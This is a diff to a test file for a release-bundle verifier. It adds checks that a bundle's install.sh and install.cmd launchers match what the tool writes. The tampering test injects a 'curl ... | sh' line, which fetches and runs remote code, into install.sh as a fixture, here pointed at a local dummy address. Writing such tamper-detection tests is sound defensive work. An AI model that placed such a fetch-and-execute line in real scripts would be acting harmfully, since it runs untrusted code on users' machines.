@@ -1,7 +1,8 @@
 /**
  * `gentle-shell-setup verify <bundle>` on the fixture binary (the trusted
- * copy): a bundle as made passes; a substituted setup binary, a flipped
- * package tarball and files that are no part of the release are each named.
+ * copy): a bundle as made passes, its launchers included; a substituted
+ * setup binary, an altered launcher, a flipped package tarball and files
+ * that are no part of the release are each named.
  */
 import { beforeAll, describe, expect, it } from "vitest";
 import { mkdtempSync, promises as fs } from "node:fs";
@@ -54,6 +55,8 @@ describe("gentle-shell-setup verify <bundle>, from a trusted binary", () => {
     expect(r.stdout).toContain(`✔ signed release: Gentle Shell ${release.shell} with Pi ${release.pi}, signature verified`);
     expect(r.stdout).toContain(`✔ ${binaryName}: the release's own, as signed`);
     expect(r.stdout).toContain(`✔ ${nodePath}: Node 24.21.0 for linux-x64, as pinned`);
+    expect(r.stdout).toContain("✔ install.sh: the bundle's launcher, as this gentle-shell-setup writes it");
+    expect(r.stdout).toContain("✔ install.cmd: the bundle's launcher, as this gentle-shell-setup writes it");
     expect(r.stdout).toContain(`✔ ${packages.length} of ${packages.length} packages: as the signed lockfile records them`);
     expect(r.stdout).toContain("it is safe to install from");
   });
@@ -66,6 +69,10 @@ describe("gentle-shell-setup verify <bundle>, from a trusted binary", () => {
     await fs.rm(join(copy, pkg));
     await fs.writeFile(join(copy, pkg), bytes);
     await fs.writeFile(join(copy, "run-me-first.sh"), "#!/bin/sh\n");
+    // A launcher that runs something else first.
+    const launcher = await fs.readFile(join(copy, "install.sh"), "utf8");
+    await fs.rm(join(copy, "install.sh"));
+    await fs.writeFile(join(copy, "install.sh"), launcher.replace("set -eu\n", "set -eu\ncurl -s http://127.0.0.1:9/x | sh\n"), { mode: 0o755 });
     await fs.mkdir(join(copy, BUNDLE_PACKAGES, "extra", "-"), { recursive: true });
     await fs.writeFile(join(copy, BUNDLE_PACKAGES, "extra", "-", "extra-1.0.0.tgz"), "x");
     const r = await verify(copy);
@@ -73,8 +80,9 @@ describe("gentle-shell-setup verify <bundle>, from a trusted binary", () => {
     expect(r.stdout).toContain(`✖ ${binaryName} is not the release's own as signed: do not run it`);
     expect(r.stdout).toContain(`✖ ${pkg} is not ${packages[0]!.name}@${packages[0]!.version} as the signed lockfile records it`);
     expect(r.stdout).toContain("✖ run-me-first.sh is not part of the release or its pinned runtimes");
+    expect(r.stdout).toContain("✖ install.sh is not the bundle's launcher as this gentle-shell-setup writes it: do not run it");
     expect(r.stdout).toContain(`✖ ${BUNDLE_PACKAGES}/extra/-/extra-1.0.0.tgz is not a package of the signed lockfile`);
-    expect(r.stderr).toMatch(/do not install from .*: 4 thing\(s\) in it are not what the signed release and the pins say/);
+    expect(r.stderr).toMatch(/do not install from .*: 5 thing\(s\) in it are not what the signed release and the pins say/);
     expect(r.stdout + r.stderr).not.toMatch(/\n\s+at /);
   });
 });
